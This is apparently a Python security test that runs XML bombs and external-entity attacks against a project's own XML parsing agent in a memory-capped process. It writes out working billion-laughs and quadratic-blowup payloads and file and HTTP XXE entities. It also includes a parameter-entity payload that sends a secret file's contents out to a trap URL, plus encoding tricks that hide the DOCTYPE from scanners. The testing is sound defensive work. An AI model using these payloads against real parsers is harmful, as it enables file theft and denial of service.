"""XML bombs and external entities, read in a child process with a memory ceiling.

``python -m tests.badinput.bombs <secret file URI> <trap URL>`` reads every answer of
:func:`answers` two ways and prints one JSON report:

* ``agent``: the agent's whole path from bytes (:func:`tests.badinput.answers.read_rows`),
  in several encodings, with the DOCTYPE hidden the ways a decoder can be fooled (control
  characters and references inside the marker, UTF-32 read as UTF-16, any chunk boundary);
* ``parser``: the XML parser alone, given the text with its DTD (the second line of
  defence: no entity expansion past libxml2's limits, no network, no file).

The child runs under ``RLIMIT_AS`` (its size after imports plus :data:`HEADROOM`), so an
expansion that escaped the limits would end it with a MemoryError instead of the test
machine; the parent (test_tally_bombs.py) judges the report.
"""

from __future__ import annotations

import json
import resource
import sys
import time
from typing import Any

from lxml import etree
from tally_agent.errors import TallyError
from tally_agent.protocol.xmlstream import RowStream, parse_document

from tests.badinput.answers import read_rows

HEADROOM = 256 * 1024 * 1024
ROWS = "<BODY><DATA><COLLECTION>{rows}</COLLECTION></DATA></BODY>"


def _ledger(name: str, guid: str = "g-1") -> str:
    return (
        f'<LEDGER NAME="{name}"><GUID>{guid}</GUID><MASTERID>1</MASTERID>'
        f"<ALTERID>1</ALTERID><PARENT>{name}</PARENT></LEDGER>"
    )


def answers(secret: str, trap: str) -> dict[str, str]:
    """Name -> an answer whose DTD is the attack (all but ``xinclude``, which has none)."""
    laughs = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    blob = "x" * 50_000
    many = "&q;" * 20_000

    def doc(dtd: str, rows: str) -> str:
        return f"<!DOCTYPE ENVELOPE [{dtd}]><ENVELOPE>{ROWS.format(rows=rows)}</ENVELOPE>"

    return {
        "billion laughs in content": doc(laughs, _ledger("L", "&j;")),
        "billion laughs in an attribute": doc(laughs, _ledger("&j;")),
        "quadratic blowup in content": doc(f'<!ENTITY q "{blob}">', _ledger("Q", many)),
        "quadratic blowup in an attribute": doc(f'<!ENTITY q "{blob}">', _ledger(many)),
        "external entity file://": doc(f'<!ENTITY e SYSTEM "{secret}">', _ledger("E", "&e;")),
        "external entity http://": doc(f'<!ENTITY e SYSTEM "{trap}/entity">', _ledger("&e;")),
        "external DTD http://": (
            f'<!DOCTYPE ENVELOPE SYSTEM "{trap}/dtd"><ENVELOPE>'
            + ROWS.format(rows=_ledger("D"))
            + "</ENVELOPE>"
        ),
        "parameter entities, out-of-band exfiltration": doc(
            f'<!ENTITY % f SYSTEM "{secret}">'
            f"<!ENTITY % eval \"<!ENTITY &#x25; out SYSTEM '{trap}/?%f;'>\">%eval;%out;",
            _ledger("P"),
        ),
        "xinclude of a file": (
            '<ENVELOPE xmlns:xi="http://www.w3.org/2001/XInclude">'
            + ROWS.format(rows=_ledger("X") + f'<xi:include parse="text" href="{secret}"/>')
            + "</ENVELOPE>"
        ),
    }


def disguises(text: str) -> dict[str, bytes]:
    """The same answer as bytes that hide its DOCTYPE from a naive scan."""
    return {
        "utf-16-le": text.encode("utf-16-le"),
        "utf-16-be": text.encode("utf-16-be"),
        "utf-8 with BOM": b"\xef\xbb\xbf" + text.encode(),
        "utf-32-le read as utf-16": text.encode("utf-32-le"),
        "control characters in the markers": text.replace("<!", "<!\x03").encode(),
        "references in the markers": text.replace("<!", "<!&#1;").encode(),
        "a control before the marker": text.replace("<!", "<\x01!").encode(),
    }


def _agent(text: str, secret_text: str) -> list[dict[str, Any]]:
    results = []
    for disguise, data in disguises(text).items():
        for chunk in (1, 3, 7, 4096):
            started = time.perf_counter()
            reading = read_rows(data, "LEDGER", chunk=chunk)
            error = reading.error
            shown = json.dumps([repr(record) for record in reading.records])
            results.append(
                {
                    "disguise": disguise,
                    "chunk": chunk,
                    "error": None if error is None else f"{type(error).__name__}: {error.message}",
                    "records": len(reading.records),
                    "size": len(shown),
                    "secret read": secret_text in shown,
                    "seconds": time.perf_counter() - started,
                }
            )
    return results


def _parser(text: str, secret_text: str) -> list[dict[str, Any]]:
    results = []
    for way in ("document", "stream"):
        started = time.perf_counter()
        error: str | None = None
        shown = ""
        try:
            if way == "document":
                root = parse_document(text)
                shown = etree.tostring(root, encoding="unicode")
            else:
                stream = RowStream(("LEDGER",))
                rows = stream.feed(text)
                shown = "".join(etree.tostring(r, encoding="unicode") for r in rows)
                root, rest = stream.close()
                shown += "".join(etree.tostring(r, encoding="unicode") for r in rest)
        except TallyError as exc:
            error = f"{type(exc).__name__}: {exc.message}"
        results.append(
            {
                "way": way,
                "error": error,
                "size": len(shown),
                "secret read": secret_text in shown,
                "seconds": time.perf_counter() - started,
            }
        )
    return results


def _vm_size() -> int:
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmSize:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError("no VmSize in /proc/self/status")


def main(secret_uri: str, secret_text: str, trap: str) -> dict[str, Any]:
    limit = _vm_size() + HEADROOM
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    report: dict[str, Any] = {"answers": {}}
    for name, text in answers(secret_uri, trap).items():
        report["answers"][name] = {
            "agent": _agent(text, secret_text),
            "parser": _parser(text, secret_text),
        }
    report["peak growth kib"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    return report


if __name__ == "__main__":
    print(json.dumps(main(sys.argv[1], sys.argv[2], sys.argv[3])))
